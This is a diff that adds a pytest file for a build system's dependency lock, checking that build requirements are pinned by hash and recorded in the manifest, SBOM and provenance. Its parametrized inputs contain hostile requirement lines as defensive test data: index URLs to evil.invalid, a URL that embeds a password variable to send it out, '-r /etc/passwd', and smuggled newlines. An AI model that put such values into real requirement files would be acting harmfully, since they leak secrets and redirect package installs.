@@ -1,0 +1,144 @@
+"""What builds need is locked, and what they ask for is names and versions only."""
+
+import json
+import sys
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from builder.worker.errors import BuildError
+from builder.worker.log import Log
+from builder.worker.process import Outcome
+from builder.worker.resolve.build_lock import BuildLock, lacking
+from builder.worker.resolve.uv import Uv
+from tests.worker.hostile import evil, evil_sdist
+from tests.worker.samples import offline
+
+if TYPE_CHECKING:
+    from tests.worker.conftest import MakeBundle, MakeWheel
+
+SAID = """error: Failed to build `/x/src`
+  cause: Failed to resolve requirements from `build-system.requires`
+  cause: No solution found when resolving: `setuptools>=40`,
+         `wheel ; python_version < '4'`
+  cause: Hash-checking is required, but no trusted hash was provided for: `setuptools`
+"""
+HASH = "sha256:" + "a" * 64
+
+
+def compiled(source: Path, out: Path) -> Outcome:
+    """Resolve every name to one version."""
+    names = [line.split(">")[0] for line in source.read_text().splitlines() if line[0] != "-"]
+    out.write_text("".join(f"{name}==1.0 \\\n    --hash={HASH}\n" for name in names))
+    return Outcome(("uv",), 0, "")
+
+
+def test_what_a_build_lacks_is_read_from_what_uv_says() -> None:
+    assert lacking(Outcome(("uv",), 1, SAID)) == ["setuptools>=40", "wheel ; python_version < '4'"]
+    assert lacking(Outcome(("uv",), 0, SAID)) == []
+    assert lacking(Outcome(("uv",), 1, "No solution found when resolving: `a`")) == []
+
+
+def test_the_lock_grows_with_what_is_asked_for(tmp_path: Path) -> None:
+    found = BuildLock(tmp_path / "build-lock.txt")
+
+    assert found.extend(["setuptools>=40"], [], compiled)
+    assert found.extend(["ninja>=1.8"], ["--no-index"], compiled)
+
+    assert [(pin.name, pin.version, pin.hashes) for pin in found.pins] == [
+        ("setuptools", "1.0", (HASH,)),
+        ("ninja", "1.0", (HASH,)),
+    ]
+    assert found.file.read_text() == found.text()
+    assert str(found.file) in found.options()
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        "--index-url http://evil.invalid",
+        "x @ https://evil.invalid/${UV_INDEX_LAYER_1_PASSWORD}/x.whl",
+        "x @ file:///etc",
+        "x\n--index-url http://evil.invalid",
+        "-r /etc/passwd",
+        "$HOME",
+        "",
+    ],
+)
+def test_what_is_no_name_with_versions_is_not_resolved(tmp_path: Path, asked: str) -> None:
+    def never(_source: Path, _out: Path) -> Outcome:
+        raise AssertionError("it must not be resolved")
+
+    assert not BuildLock(tmp_path / "build-lock.txt").extend([asked], [], never)
+
+
+def test_what_was_asked_for_in_vain_is_not_asked_for_again(tmp_path: Path) -> None:
+    found = BuildLock(tmp_path / "build-lock.txt")
+
+    assert not found.extend(["gone"], [], lambda _source, _out: Outcome(("uv",), 1, "no such"))
+    assert not found.extend(["gone"], [], compiled)
+    assert found.pins == []
+
+
+def test_build_requirements_are_in_manifest_bill_and_provenance(
+    make_bundle: "MakeBundle", make_wheel: "MakeWheel"
+) -> None:
+    bundle = make_bundle(requirements=["requirements.txt"])
+    links = bundle.path / "project" / "wheels"
+    make_wheel(links, "backend_helper", requires=("backend_base",))
+    make_wheel(links, "backend_base")
+    evil_sdist(links, "import backend_helper", requires=["backend-helper>=1"])
+    offline(bundle, "evil")
+
+    result = bundle.run()
+
+    assert result.status == 0, result.errors
+    needed = result.manifest["build_requirements"]
+    names = ["backend-base", "backend-helper"]
+    assert [item["name"] for item in needed] == names
+    assert all(text.startswith("sha256:") for item in needed for text in item["hashes"])
+    bill = json.loads((result.out / "sbom.cdx.json").read_text())
+    assert {c["name"] for c in bill["components"] if c.get("scope") == "excluded"} == set(names)
+    statement = json.loads((result.out / "provenance.json").read_text())
+    definition = statement["predicate"]["buildDefinition"]
+    uris = {item.get("uri") for item in definition["resolvedDependencies"]}
+    assert {f"pkg:pypi/{name}@1.0" for name in names} <= uris
+    assert not [name for name in result.names if "backend_helper" in name]
+
+
+def test_what_a_build_needs_and_has_no_wheel_is_built_too_and_noted(
+    make_bundle: "MakeBundle",
+) -> None:
+    bundle = make_bundle(evil("import onlysource", requires=["onlysource"]), package="libs/evil")
+    links = bundle.path / "project" / "wheels"
+    evil_sdist(links, "", name="onlysource")
+
+    result = bundle.run(env={"UV_FIND_LINKS": str(links), "UV_NO_INDEX": "1"})
+
+    assert result.status == 0, result.errors
+    assert "NOTE: not locked is what this build needs: onlysource" in result.output
+    assert result.manifest["build_requirements"] == []
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--index-url http://evil.invalid/simple",
+        "--extra-index-url=http://evil.invalid/simple",
+        "--find-links /tmp",
+        "-r /etc/passwd",
+        "x @ https://evil.invalid/${UV_INDEX_LAYER_1_PASSWORD}/x.whl",
+    ],
+)
+def test_a_lock_that_strangers_code_could_write_says_no_more_than_the_requirements(
+    tmp_path: Path, uv_program: Path, line: str
+) -> None:
+    builds = BuildLock(tmp_path / "build-lock.txt")
+    uv = Uv(uv_program, tmp_path, sys.executable, Log(), tmp_path / "uv", builds)
+    own = [("--find-links wheels", f"--find-links {tmp_path}"), ("--no-index", "--no-index")]
+
+    uv._check_lock("--find-links wheels\n--no-index\nsix==1.0\n", own)
+
+    with pytest.raises(BuildError, match="does not come of the requirements"):
+        uv._check_lock(f"six==1.0\n{line}\n", own)
